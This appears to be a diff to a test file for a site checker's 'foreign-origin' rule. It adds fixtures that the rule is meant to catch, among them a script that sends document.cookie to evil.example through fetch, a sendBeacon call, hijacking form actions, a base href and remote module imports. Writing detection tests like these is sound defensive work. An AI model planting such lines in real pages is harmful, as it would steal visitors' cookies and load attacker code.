@@ -50,6 +50,15 @@ test.each([
   ['input-label', '<select name="city"></select>'],
   ['foreign-origin', '<script src="https://cdn.example.com/x.js"></script>'],
   ['foreign-origin', '<iframe src="//cdn.example.com/x" title="x"></iframe>'],
+  ['foreign-origin', '<base href="https://evil.example/">'],
+  ['foreign-origin', '<form action="https://evil.example/take"><button>Send</button></form>'],
+  ['foreign-origin', '<form><button formaction="https://evil.example/take">Send</button></form>'],
+  ['foreign-origin', '<meta http-equiv="Refresh" content="0; URL=https://evil.example/">'],
+  ['foreign-origin', `<script type="module">import('https://evil.example/x.js')</script>`],
+  ['foreign-origin', `<script type="module">import { x } from "https://evil.example/x.js";</script>`],
+  ['foreign-origin', `<script>fetch ( 'https://evil.example/?q=' + document.cookie)</script>`],
+  ['foreign-origin', '<script>navigator.sendBeacon(`//evil.example/b`, data)</script>'],
+  ['foreign-origin', `<button onclick="fetch('https://evil.example/')">Go</button>`],
 ])('%s is found in %s', (rule, body) => expect(rulesOf(site(body))).toEqual([rule]));
 
 test.each([
@@ -59,8 +68,15 @@ test.each([
   ['size-limit', site('', { 'big.png': new Uint8Array(9 * 1024 * 1024) })],
   ['size-limit', site('', { 'big.html': 'x'.repeat(600 * 1024) })],
   ['asset-exists', site('', { 'style.css': 'a { background: url("gone.png") }' })],
+  ['foreign-origin', site('', { 'app.js': `import "https://evil.example/x.js";` })],
   ['foreign-origin', site('', { 'style.css': '@import url(https://fonts.example.com/a.css);' })],
 ])('%s is found in a whole site', (rule, files) => expect(rulesOf(files)).toEqual([rule]));
+
+test('scripts, forms and refreshes on the site itself are no finding', () => {
+  const body = `<form method="post" action="/_forms/contact"><button>Send</button></form><meta http-equiv="refresh" content="5; url=/about">
+    <script type="module">import './app.js'; fetch('/data.json'); navigator.sendBeacon('/api/collect'); const from = "https://example.com";</script>`;
+  expect(rulesOf(site(body, { 'about.html': page(''), 'app.js': `export * from './app.js';` }))).toEqual([]);
+});
 
 test('an origin that the user named is allowed', () => {
   const files = site('<script src="https://cdn.example.com/x.js"></script>');
@@ -156,4 +172,6 @@ test('code that a change loads from elsewhere is found behind 1,000 other findin
   expect(found('', openElements + fill('</p><p>x', 100_000) + foreign)).toBe('html-parses');
   expect(found('', '@IMPORT "https://cdn.example.com/x.css";', 'a.css')).toBe('foreign-origin');
   expect(found('', `const page = '${foreign}';`, 'a.js')).toBeUndefined();
+  expect(found('', `fetch('https://evil.example/')`, 'a.js')).toBe('foreign-origin');
+  expect(found(page(''), page('<base href="https://evil.example/">'))).toBe('foreign-origin');
 });
